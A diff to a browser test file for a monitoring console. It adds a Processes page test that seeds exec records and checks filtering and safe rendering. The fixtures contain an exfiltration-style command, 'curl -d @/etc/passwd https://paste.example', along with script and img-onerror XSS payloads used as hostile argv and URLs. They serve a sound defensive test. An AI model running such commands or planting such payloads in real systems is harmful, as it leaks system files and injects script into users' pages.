@@ -1,10 +1,14 @@
 // The console in real headless Chromium against the COMPILED binary:
 // sign-in, the domain filter taking subdomains, a session's gap row, the
-// live tail, CSV export, and hostile URLs shown as text with no script run
-// and no dialog. Run by `npm run test:browser` (and .ci/run), not `npm test`.
+// live tail, CSV export, hostile URLs shown as text with no script run
+// and no dialog, and the Processes page (exec records: the API's filters,
+// hostile argv as text). Run by `npm run test:browser` (and .ci/run), not `npm test`.
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { readFileSync } from "node:fs";
 import type { Page } from "playwright-core";
+import { create } from "@bufbuild/protobuf";
+import { timestampFromMs } from "@bufbuild/protobuf/wkt";
+import { ProcessExecSchema, ReportProcessLogsRequestSchema } from "../../src/gen/boundaryrelay/v1/process_pb.ts";
 import { ADMIN_TOKEN, batch, type Chrome, type ConsoleServer, launchChromium, log, startConsoleServer } from "./browser.ts";
 import { until } from "../helpers/until.ts";
 
@@ -13,6 +17,15 @@ const HOSTILE_SESSION = "40000000-0000-4000-8000-000000000002";
 const LIVE_SESSION = "40000000-0000-4000-8000-000000000003";
 const HOSTILE = ["https://x/<script>alert(1)</script>", "javascript:alert(1)", 'https://x/"><img src=x onerror=alert(2)>'];
 const TIMEOUT = 60_000;
+const HOSTILE_ARGV = ["sh", "-c", "<script>alert(3)</script>", '"><img src=x onerror=alert(4)>'];
+
+/** An exec record as the agent sends it. */
+function exec(pid: number, argv: string[], ms = Date.now() - pid) {
+  return create(ProcessExecSchema, {
+    time: timestampFromMs(ms), monotonicNs: BigInt(pid) * 1000n, pid, ppid: 1, uid: 1000, gid: 1000,
+    filename: `/usr/bin/${argv[0]}`, argv, comm: argv[0], cmdline: argv.join(" "),
+  });
+}
 
 let server: ConsoleServer;
 let chrome: Chrome;
@@ -33,6 +46,10 @@ beforeAll(async () => {
   const hosts = ["pastebin.com", "www.pastebin.com", "notpastebin.com", "github.com"];
   await server.ingest.reportBoundaryLogs(batch(seqs.map((s) => log(s, s % 4 === 3, `https://${hosts[s % 4]}/p/${s}`)), GAPPY));
   await server.ingest.reportBoundaryLogs(batch(HOSTILE.map((u, i) => log(i, false, u)), HOSTILE_SESSION));
+  await server.ingest.reportProcessLogs(create(ReportProcessLogsRequestSchema, {
+    bootId: "86ce15cf-80a2-4b5e-831f-4743ffd37b5f",
+    execs: [exec(101, ["curl", "-sS", "https://example.com"]), exec(102, ["git", "status"]), exec(103, ["curl", "-d", "@/etc/passwd", "https://paste.example"]), exec(104, HOSTILE_ARGV)],
+  }));
   chrome = await launchChromium();
   page = await chrome.context.newPage();
   page.on("dialog", (d) => {
@@ -117,6 +134,25 @@ describe("console in Chromium", () => {
     expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
     const external = await page.$$eval("a[href]", (as) => as.map((a) => (a as HTMLAnchorElement).href).filter((h) => !h.startsWith(location.origin)));
     expect(external).toEqual([]);
+    expect(dialogs).toEqual([]);
+  }, TIMEOUT);
+
+  test("Processes lists exec records, filters by command through the form, and shows hostile argv as text", async () => {
+    await ensureSignedIn();
+    await page.goto(`${server.url}/`);
+    await Promise.all([page.waitForURL((u) => u.pathname === "/processes"), page.click('nav a:text-is("Processes")')]);
+    expect(await page.locator("tbody tr").count()).toBe(4);
+    await page.fill('input[name="command"]', "curl");
+    await page.click('button[type="submit"]:has-text("Apply")');
+    await page.waitForURL((u) => u.searchParams.get("command") === "curl");
+    const lines = await page.$$eval("tbody tr td.url code", (els) => els.map((e) => e.textContent));
+    expect(lines).toEqual(["curl -sS https://example.com", "curl -d @/etc/passwd https://paste.example"]);
+    await page.goto(`${server.url}/processes?since=not-a-time`);
+    expect(await page.textContent("[role=alert]")).toContain("since");
+    await page.goto(`${server.url}/processes`);
+    expect(await page.locator("tbody tr td.url code", { hasText: "<script>alert(3)</script>" }).count()).toBe(1);
+    expect(await page.locator("script:not([src])").count()).toBe(0);
+    expect(await page.locator("img").count()).toBe(0);
     expect(dialogs).toEqual([]);
   }, TIMEOUT);
 });
